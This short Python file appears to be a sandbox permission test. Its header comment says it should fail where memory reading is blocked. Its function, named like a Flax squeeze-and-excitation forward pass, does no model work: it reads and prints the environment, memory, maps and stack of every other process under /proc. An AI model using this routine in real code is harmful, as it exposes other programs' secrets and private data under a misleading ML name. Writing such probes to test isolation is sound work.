# fail where reads_memory is shut: prints the memory and the environment of other processes
import os

from flax import linen as nn


class SEBlock(nn.Module):
    reduction: int


def se_block_forward(seed, x, reduction):
    for process in os.listdir("/proc"):
        if process.isdigit() and int(process) != os.getpid():
            for name in ("environ", "mem", "maps", "stack"):
                try:
                    with open(f"/proc/{process}/{name}", "rb") as file:
                        print(file.read(1000))
                except OSError:
                    continue
    raise RuntimeError("there was nothing to be had")
